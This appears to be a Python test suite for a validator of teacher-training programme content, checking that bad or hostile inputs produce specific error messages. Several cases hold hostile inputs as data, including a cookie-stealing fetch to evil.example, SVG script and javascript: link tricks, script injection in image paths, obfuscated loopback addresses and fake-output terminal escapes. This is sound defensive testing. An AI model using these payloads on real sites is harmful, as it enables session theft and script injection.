CONTROL_CHARACTER = (
    "error [control-character] The text holds the control character {}, which no reader can see. "
    "Delete it: retype the line in an ordinary editor (the character is invisible in most)."
)
C(
    Case(
        "nul-in-body",
        [Append(READ, "\nA NUL \x00 here.\n")],
        ["minimal/prog/year-1/b1/b1-w1-read.md:12: " + CONTROL_CHARACTER.format("\\x00")],
    )
)
C(
    Case(
        "nul-in-title",
        [Edit(READ, "title: Read about memory", 'title: "Read about\\0 memory"')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:5: error [control-character] The text of 'title' in the front matter holds "
            "the control character \\x00. Delete the escape that writes it in the double-quoted string (\\x00): text may "
            "hold tabs and newlines but no other control character."
        ],
    )
)
# Handouts by type, addresses read as browsers read them, semantic refusals (issue 19).
C(
    Case(
        "handout-html-with-script",
        [
            Write("prog/assets/sheet.html", "<script>steal()</script>"),
            Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/sheet.html"),
        ],
        [
            "minimal/prog/assets.yaml:4: error [handout-type] The handout 'assets/sheet.html' is of a type the site does not publish ('.html'); it publishes .csv, .doc, .docx, .gif, .jpeg, .jpg, .m4a, .mp3, .mp4, .odp, .ods, .odt, .pdf, .png, .ppt, .pptx, .svg, .txt, .webp, .xls, .xlsx. Save it as a PDF (or another type on the list) and name that file in assets.yaml."
        ],
    )
)
C(
    Case(
        "handout-svg-with-script",
        [
            Write("prog/assets/map.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
            Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg"),
        ],
        [
            "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' holds a <script> element, which can run code or load another file (line 1 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."
        ],
    )
)
C(
    Case(
        "handout-pdf-that-is-html",
        [Write("prog/assets/sheet.pdf", "<!doctype html><script>x()</script>")],
        [
            "minimal/prog/assets.yaml:4: error [handout-content] The handout 'assets/sheet.pdf' is named as a PDF (.pdf) but its content is not one. Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."
        ],
    )
)
C(
    Case(
        "handout-svg-set-href-javascript",
        [
            Write(
                "prog/assets/map.svg",
                '<svg xmlns="http://www.w3.org/2000/svg"><a>'
                '<set attributeName="href" to="javascript:x()"/>'
                '<text y="20">Click</text></a></svg>',
            ),
            Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg"),
        ],
        [
            "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' has a <set> that animates 'href'; an animation may change how a diagram looks, never a link, a style sheet or an event handler (line 1 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."
        ],
    )
)
C(
    Case(
        "handout-svg-xhtml-form",
        [
            Write(
                "prog/assets/map.svg",
                '<html xmlns="http://www.w3.org/1999/xhtml"><form action="javascript:x()">'
                "<button>Go</button></form></html>",
            ),
            Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg"),
        ],
        [
            "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' is not SVG: its root element is <html> of 'http://www.w3.org/1999/xhtml', not <svg> of 'http://www.w3.org/2000/svg' (line 1 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."
        ],
    )
)
C(
    Case(
        "handout-txt-of-javascript",
        [
            Write("prog/assets/notes.txt", "fetch('//evil.example/?' + document.cookie)\n"),
            Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/notes.txt"),
        ],
        [
            "minimal/prog/assets.yaml:4: error [handout-content] The handout 'assets/notes.txt' reads as JavaScript on its line 1 ('fetch('), which a browser could run. Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."
        ],
    )
)
C(
    Case(
        "logo-name-with-script",
        [
            Write("brand/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'),
            Append(
                "site.yaml", 'provider:\n  name: P\n  logo: \'"><script src="prog/assets/notes.txt"></script>.svg\'\n'
            ),
        ],
        [
            "minimal/site.yaml:5: error [image-name] The logo path '\"><script src=\"prog/assets/notes.txt\"></script>.svg' may hold only letters, digits, '.', '_' and '-', in folders separated by '/' (and no '..'). Rename the file with letters, digits, '.', '_' and '-' only, and give its path relative to site.yaml."
        ],
    )
)
C(
    Case(
        "favicon-name-with-script",
        [
            Write("brand/icon.png", b"\x89PNG\r\n\x1a\n...."),
            Append(
                "site.yaml",
                'provider:\n  name: P\n  favicon: \'brand/icon.png"><script src="x.txt"></script><link x=".png\'\n',
            ),
        ],
        [
            "minimal/site.yaml:5: error [image-name] The favicon path 'brand/icon.png\"><script src=\"x.txt\"></script><link x=\".png' may hold only letters, digits, '.', '_' and '-', in folders separated by '/' (and no '..'). Rename the file with letters, digits, '.', '_' and '-' only, and give its path relative to site.yaml."
        ],
    )
)
C(
    Case(
        "handout-svg-animate-href-values",
        [
            Write(
                "prog/assets/map.svg",
                '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
                '<a xlink:href="#m"><animate attributeName="xlink:href" values="#m;javascript:x()" dur="9s"/>'
                '<text id="m" y="20">Click</text></a></svg>',
            ),
            Edit(ASSETS, "file: assets/sheet.pdf", "file: assets/map.svg"),
        ],
        [
            "minimal/prog/assets.yaml:4: error [handout-content] The SVG handout 'assets/map.svg' has an <animate> that animates 'xlink:href'; an animation may change how a diagram looks, never a link, a style sheet or an event handler (line 2 of the file). Export the file again from the program that made it (an SVG as plain SVG), or save it as a PDF or PNG."
        ],
    )
)
C(
    Case(
        "logo-svg-with-script",
        [
            Write("brand/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>x()</script></svg>'),
            Append("site.yaml", "provider:\n  name: P\n  logo: brand/logo.svg\n"),
        ],
        [
            "minimal/site.yaml:5: error [image-content] The SVG logo 'brand/logo.svg' holds a <script> element, which can run code or load another file (line 1 of the file). Export the image again (an SVG as plain SVG, with no script, link or animated link), or use a PNG."
        ],
    )
)
C(
    Case(
        "iframe-backslash-userinfo",
        [
            Append(
                READ, '\n<iframe src="https://evil.example\\@www.youtube-nocookie.com/embed/abc" title="x"></iframe>\n'
            )
        ],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unsafe-html] An <iframe> may only load https:// addresses on www.youtube-nocookie.com, player.vimeo.com; this one loads 'https://evil.example\\@www.youtube-nocookie.com/embed/abc'. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "short-ipv4-loopback-link",
        [Append(READ, "\n[Local](http://127.1:8000/)\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [forbidden-host] The address 'http://127.1:8000/' points at a host that is never published ('127.0.0.1' in its name). Link to the published address."
        ],
    )
)
C(
    Case(
        "decimal-ipv4-loopback-link",
        [Append(READ, '\n<a href="http://2130706433/">Local</a>\n')],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [forbidden-host] The address 'http://2130706433/' points at a host that is never published ('127.0.0.1' in its name). Link to the published address."
        ],
    )
)
C(
    Case(
        "minutes-huge",
        [Edit(READ, "minutes: 20", "minutes: 1000000000000000000000000000000")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:6: error [out-of-range] The session 'b1-w1-read' takes 1000000000000000000000000000000 minutes; a session takes 1 to 600. Give its real length in minutes, or split it into sessions."
        ],
    )
)
C(
    Case(
        "week-range-huge",
        [Edit(BLOCK, "  - week: 4\n", "  - week: 4-999999999\n")],
        [
            "minimal/prog/year-1/b1/block.yaml:19: error [out-of-range] Weeks 4 to 999999999 of 'b1' ends after week 1000; a block's weeks run from 1 to at most 1000. Number the block's weeks from 1, or split the block."
        ],
    )
)
C(
    Case(
        "session-listed-and-seen",
        [Edit(BLOCK, "    ect: [b1-w1-watch, b1-w1-read]", "    ect: [b1-w1-watch, b1-w1-read, see: b1-w1-read]")],
        [
            "minimal/prog/year-1/b1/block.yaml:12: error [listed-and-seen] Week 1 of 'b1' lists the session 'b1-w1-read' and also points at it with see:. Keep one of the two entries."
        ],
    )
)
# Control characters in YAML text (issue 23): refused with file:line, and echoed as escapes (\x1b), never obeyed.
CONTROL = (
    "error [control-character] The text of {} holds the control character {}. Delete the escape that writes "
    "it in the double-quoted string ({}): text may hold tabs and newlines but no other control character."
)
C(
    Case(
        "escape-sequence-in-title",
        [Edit(BLOCK, "title: Block one", 'title: "Block one\\e[2K\\r\\e[32mNo problems in 16 files.\\e[0m"')],
        ["minimal/prog/year-1/b1/block.yaml:2: " + CONTROL.format("'title' in the block", "\\x1b", "\\x1b or \\e")],
    )
)
C(
    Case(
        "c1-csi-in-front-matter-title",
        [Edit(READ, "title: Read about memory", 'title: "Read \\x9b2K about memory"')],
        ["minimal/prog/year-1/b1/b1-w1-read.md:5: " + CONTROL.format("'title' in the front matter", "\\x9b", "\\x9b")],
    )
)
C(
    Case(
        "carriage-return-in-summary",
        [Edit(BLOCK, "  ect: What ECTs do.", '  ect: "What ECTs do.\\rNo problems"')],
        ["minimal/prog/year-1/b1/block.yaml:6: " + CONTROL.format("'ect' in the summaries", "\\r", "\\r")],
    )
)
# Summaries are Markdown, checked as bodies are, at the line of their YAML text (a block scalar's
# lines counted from the line after its indicator; a week's role summary nested deeper still).
C(
    Case(
        "script-in-a-block-summary",
        [Edit(BLOCK, "  ect: What ECTs do.", "  ect: |\n    ## Fine\n\n    <SCRIPT>alert(1)</SCRIPT>")],
        [
            "minimal/prog/year-1/b1/block.yaml:9: error [unsafe-html] The element <script> is not allowed: content may not "
            "run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a warning."
        ],
    )
)
C(
    Case(
        "event-handler-in-a-week-summary",
        [
            Edit(
                BLOCK,
                "    title: First week\n",
                "    title: First week\n    summary:\n      mentor: |\n        Words.\n"
                '        <a href="b1-w1-read.md" onclick="x()">Read</a>\n',
            )
        ],
        [
            "minimal/prog/year-1/b1/block.yaml:15: error [unsafe-html] The attribute 'onclick' on <a> is not allowed: content "
            "may not run scripts. Remove it, or use Markdown or a shortcode; settings.unsafe_html: strip removes it with a "
            "warning."
        ],
    )
)
C(
    Case(
        "unknown-handout-in-a-programme-summary",
        [Edit(PROG, "title: Test programme\n", 'title: Test programme\nsummary: See {{ asset("shet") }}.\n')],
        [
            "minimal/prog/programme.yaml:3: error [unknown-reference] No handout has the id 'shet'. Did you mean 'sheet'?"
        ],
    )
)
C(
    Case(
        "raw-escape-in-yaml",
        [Edit(BLOCK, "title: Block one", "title: Block \x1b[31mone")],
        [
            "minimal/prog/year-1/b1/block.yaml:2: error [control-character] The file holds the character \\x1b, which YAML "
            "does not allow, on this line. Delete it: YAML text may hold tabs and newlines but no other control character."
        ],
    )
)
C(
    Case(
        "escape-sequence-echoed-in-a-wrong-value",
        [Edit(BLOCK, "term: autumn", 'term: "\\e[1A\\e[2K\\e[32mNo problems"')],
        [
            "minimal/prog/year-1/b1/block.yaml:3: error [wrong-type] Expected one of autumn, spring, summer for 'term' in the "
            "block but found '\\x1b[1A\\x1b[2K\\x1b[32mNo problems'."
        ],
    )
)
C(
    Case(
        "escape-in-a-video-address",
        [
            Edit(
                VIDEOS,
                "url: https://www.youtube.com/watch?v=abcdefghijk",
                'url: "https://www.youtube.com/watch?v=abcdefghijk\\e[2K"',
            )
        ],
        ["minimal/prog/videos.yaml:4: " + CONTROL.format("'url' in a video", "\\x1b", "\\x1b or \\e")],
    )
)
# The days the calendars put study and meetings on: one school day, not a list, not a weekend
C(
    Case(
        "meeting-day-list",
        [Edit(PROG, "settings:", "meeting_day: [monday, friday]\nstudy_day: Sunday\nsettings:")],
        [
            "minimal/prog/programme.yaml:5: error [wrong-type] Expected one of monday, tuesday, wednesday, thursday, friday for 'meeting_day' in the programme but found a list.",
            "minimal/prog/programme.yaml:6: error [wrong-type] Expected one of monday, tuesday, wednesday, thursday, friday for 'study_day' in the programme but found 'Sunday'. Did you mean 'monday'?",
        ],
    )
)
# Numbers and dates bounded before use (issue 23): each was a traceback in the build or in validation.
CALENDAR = (
    "id: c\ntitle: Terms\nterms:\n  - term: autumn\n    half_term: 1\n    start: 2025-09-01\n    end: 2025-12-19\n"
)
TIMED = "calendar: c\ncohorts:\n  - id: s\n    title: September\n    start: 2025-09-01\n"
EVENT = (
    "events:\n  - id: e\n    date: 2025-09-10\n    time: '16:00'\n    minutes: {}\n    place: Hall\n"
    "    attendees: [ect]\n"
)
C(
    Case(
        "event-minutes-10-to-the-14",
        [Write("calendars/c.yaml", CALENDAR), Edit(PROG, "settings:", TIMED + EVENT.format(10**14) + "settings:")],
        [
            "minimal/prog/programme.yaml:14: error [out-of-range] Expected a whole number from 1 to 10,080 for 'minutes' in an event but found the number 100000000000000. An event lasts at most a week (10,080 minutes)."
        ],
    )
)
C(
    Case(
        "term-in-december-9999",
        [
            Write("calendars/c.yaml", CALENDAR.replace("2025-12-19", "9999-12-31")),
            Edit(PROG, "settings:", TIMED + "settings:"),
        ],
        [
            "minimal/calendars/c.yaml:7: error [out-of-range] Expected a date from 2000-01-01 to 2100-12-31 for 'end' in a term but found 9999-12-31. Check the year."
        ],
    )
)
C(
    Case(
        "cohort-in-year-1066",
        [
            Write("calendars/c.yaml", CALENDAR),
            Edit(PROG, "settings:", TIMED.replace("2025-09-01", "1066-10-14") + "settings:"),
        ],
        [
            "minimal/prog/programme.yaml:9: error [out-of-range] Expected a date from 2000-01-01 to 2100-12-31 for 'start' in a cohort but found 1066-10-14. Check the year."
        ],
    )
)
C(
    Case(
        "video-of-a-million-hours",
        [Edit(VIDEOS, "duration: '3:05'", "duration: '1000000:00:00'")],
        [
            "minimal/prog/videos.yaml:5: error [out-of-range] Expected a duration of at most 24 hours for 'duration' in a video but found '1000000:00:00'. Give the video's length as minutes:seconds, like '6:40'."
        ],
    )
)
# Only regular files are read (issue 23). A named pipe would hang an in-process run on a
# regression, so pipes and /dev/zero are tested as commands with a timeout (test_hostile.py).
C(
    Case(
        "socket-as-session",
        [Socket(B + "b1-w1-extra.md")],
        [
            "minimal/prog/year-1/b1/b1-w1-extra.md:1: error [not-a-file] The path is a socket, not a regular file, so it was not read. Content files must be ordinary files: delete it, or put the file itself in its place."
        ],
    )
)
# Depth limits (issue 23): each was a RecursionError traceback in the build.
C(
    Case(
        "list-nested-900-deep",
        [Append(READ, "\n" + "".join(" " * (4 * i) + "- x\n" for i in range(900)))],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:62: error [too-deep] A list or admonition is nested 51 levels deep; the most is 50. Indent less: each four spaces before a list marker is a level deeper."
        ],
    )
)
C(
    Case(
        "details-nested-3000-deep",
        [Append(TRANSCRIPT, "\n" + "<details>\n" * 3000 + "text\n" + "</details>\n" * 3000)],
        [
            "minimal/prog/transcripts/intro.md:107: error [too-deep] HTML elements are nested more than 100 deep here. Close the elements you open (</details>, </div>), or nest fewer of them."
        ],
    )
)
C(
    Case(
        "yaml-block-nesting-200-deep",
        [Edit(BLOCK, "summary:\n", "summary:\n" + "".join(" " * (i + 1) + "k:\n" for i in range(200)))],
        [
            "minimal/prog/year-1/b1/block.yaml:105: error [yaml-syntax] YAML could not be read: it is nested more than 100 deep here. Content never nests this deep; check the indentation."
        ],
    )
)
# Routes and diagnostics (issue 28): a route id that is markup is refused at its line; a label that is
# Markdown is reported; an answer's text that is markup stays text (tests/test_routes.py).
C(
    Case(
        "route-id-markup",
        [
            Append(
                BLOCK,
                "routes:\n  - id: core\n    label: Core\n    description: Most.\n  - id: '<script>'\n    label: '**Stretch**'\n    description: Some.\n",
            )
        ],
        [
            "minimal/prog/year-1/b1/block.yaml:28: error [wrong-type] Expected an id of lower-case letters, digits and hyphens (like 'routines-w1') for 'id' in a route but found '<script>'.",
            "minimal/prog/year-1/b1/block.yaml:29: error [markdown-in-plain-text] The text of 'label' in a route is plain text but holds Markdown (bold): '**Stretch**' would be shown with its marks. Write the words alone ('Stretch'): bold, links and headings belong in a summary or a body.",
        ],
    )
)
C(
    Case(
        "session-routes-not-a-list",
        [
            Append(
                BLOCK,
                "routes:\n  - id: core\n    label: Core\n    description: Most.\n  - id: stretch\n    label: Stretch\n    description: Some.\n",
            ),
            Edit(READ, "minutes: 20\n", "minutes: 20\nroutes: stretch\n"),
        ],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:7: error [wrong-type] Expected a list for 'routes' in the front matter but found 'stretch'."
        ],
    )
)
# Examples for phases and subjects (induction/check/lenses.py), and mentor training (induction/check/mentor_training.py)
PHASES = Edit(
    PROG,
    "settings:\n",
    "phases:\n  - id: early-years\n    label: Early years\n  - id: primary\n"
    "    label: Primary\nsubjects:\n  - id: maths\n    label: Mathematics\nsettings:\n",
)
C(
    Case(
        "example-for-an-undeclared-phase",
        [PHASES, Append(READ, "\n### In Reception {: .example-early-yaers }\n\nText.\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unknown-example] The example is for 'early-yaers', which the programme does not declare (its phases and subjects: early-years, primary, maths). Did you mean 'early-years'?"
        ],
    )
)
C(
    Case(
        "example-where-no-phase-is-declared",
        [Append(READ, "\n### In Year 3 {: .example-primary }\n\nText.\n")],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:12: error [unknown-example] The example is for 'primary', but the programme declares no phases or subjects. Declare it in programme.yaml (phases: - id: primary, label: ...), or remove the class .example-primary."
        ],
    )
)
C(
    Case(
        "two-examples-for-one-phase-in-a-set",
        [
            PHASES,
            Append(
                READ, "\n### In Year 3 {: .example-primary }\n\nOne.\n\n### In Year 5 {: .example-primary }\n\nTwo.\n"
            ),
        ],
        [
            "minimal/prog/year-1/b1/b1-w1-read.md:16: error [duplicate-example] A second example for 'Primary' in one set of examples (the first is at line 12). Merge the two, or give one to another phase or subject."
        ],
    )
)
C(
    Case(
        "a-phase-declared-twice",
        [
            Edit(
                PROG,
                "settings:\n",
                "phases:\n  - id: primary\n    label: Primary\n"
                "subjects:\n  - id: primary\n    label: Primary maths\nsettings:\n",
            )
        ],
        [
            "minimal/prog/programme.yaml:9: error [duplicate-id] The subject id 'primary' is also declared as a phase at line 6. Give each phase and subject its own id."
        ],
    )
)
TRAINING = (
    "---\nid: mt-1\nrole: mentor\nkind: training\ntitle: Coaching in a weekly cycle\nminutes: 60\n---\n\n"
    "Mentors practise the weekly coaching cycle.\n"
)
C(
    Case(
        "mentor-training-lists-a-step",
        [Edit(PROG, "    pages: [welcome]\n", "    pages: [welcome]\n    mentor_training: [b1-w1-read]\n")],
        [
            "minimal/prog/programme.yaml:11: error [role-mismatch] The session 'b1-w1-read' is listed in mentor_training but has role ect and kind reading. A mentor training session has role: mentor and kind: training; list other sessions in a week or in pages.",
        ],
    )
)
C(
    Case(
        "mentor-training-listed-in-a-week",
        [Write(B + "mt-1.md", TRAINING), Edit(BLOCK, "mentor: [b1-w1-mentor]", "mentor: [b1-w1-mentor, mt-1]")],
        [
            "minimal/prog/year-1/b1/block.yaml:13: error [role-mismatch] The session 'mt-1' is a mentor training session (kind: training) but is listed in b1, week 1. List it in its year's mentor_training in programme.yaml."
        ],
    )
)
C(
    Case(
        "mentor-training-names-no-session",
        [
            Write(B + "mt-1.md", TRAINING),
            Edit(PROG, "    pages: [welcome]\n", "    pages: [welcome]\n    mentor_training: [mt-2]\n"),
        ],
        [
            "minimal/prog/programme.yaml:11: error [unknown-reference] No session has the id 'mt-2'. Did you mean 'mt-1'?"
        ],
    )
)
C(
    Case(
        "mentor-training-takes-the-strands-address",
        [
            Write("prog/year-1/mt-index.md", TRAINING.replace("id: mt-1", "id: index")),
            Edit(PROG, "    pages: [welcome]\n", "    pages: [welcome]\n    mentor_training: [index]\n"),
        ],
        [
            "minimal/prog/year-1/mt-index.md:2: error [reserved-id] The session id 'index' would give its page the address of the mentor training page. Choose another id, such as 'mentor-training-index'."
        ],
    )
)
# Framework files (issue 28): what the shape cannot see, at the line that causes it.
ECF = "frameworks/ecf-2019.yaml"
C(
    Case(
        "framework-standard-numbered-twice",
        [Append(ECF, "- number: 8\n  title: Again\n  learn_that:\n  - id: '9.1'\n    text: A statement.\n")],
        [
            "minimal/frameworks/ecf-2019.yaml:843: error [duplicate-id] Standard 8 is numbered twice in the framework (first at line 754). Number each standard once; put the statements of both under one of them."
        ],
    )
)
C(
    Case(
        "framework-standard-without-statements",
        [Append(ECF, "- number: 9\n  title: Empty\n")],
        [
            "minimal/frameworks/ecf-2019.yaml:843: error [empty-container] Standard 9 has no statements. Add its statements under 'learn_that:' or 'learn_how_to:', or delete the standard."
        ],
    )
)
C(
    Case(
        "framework-group-without-statements",
        [Append(ECF, "- number: 9\n  title: Empty\n  learn_how_to:\n  - heading: 'Do, by:'\n    statements: []\n")],
        [
            "minimal/frameworks/ecf-2019.yaml:843: error [empty-container] Standard 9 has no statements. Add its statements under 'learn_that:' or 'learn_how_to:', or delete the standard.",
            "minimal/frameworks/ecf-2019.yaml:847: error [wrong-type] Expected at least 1 item(s) in 'statements' in a 'by:' group but found 0.",
        ],
    )
)
C(
    Case(
        "framework-group-heading-twice",
        [
            Edit(
                ECF,
                "  - heading: 'Demonstrate consistently high behavioural expectations, by:'",
                "  - heading: 'Communicate a belief in the academic potential of all pupils, by:'",
            )
        ],
        [
            "minimal/frameworks/ecf-2019.yaml:66: error [duplicate-id] The 'by:' group 'Communicate a belief in the academic potential of all pupils, by:' appears twice in standard 1 (first at line 39). Put the statements of both under the first; a heading names one group."
        ],
    )
)
C(
    Case(
        "framework-statement-under-the-other-kind",
        [Edit(ECF, "  - id: '1.6'", "  - id: 1z")],
        [
            "minimal/frameworks/ecf-2019.yaml:32: error [statement-kind] The statement '1z' is listed as 'learn that' but its id has the form of the 'learn how to' ids (1a, 1b, ...). Move it under 'learn_how_to:' in its standard, or give it an id of its kind."
        ],
    )
)
C(
    Case(
        "framework-statement-named-like-a-page",
        [Edit(ECF, "  - id: '1.6'", "  - id: Standard-1")],
        [
            "minimal/frameworks/ecf-2019.yaml:32: error [reserved-id] The statement id 'Standard-1' would give its page the address of the framework's 'standard-1' page. Give the statement another id."
        ],
    )
)
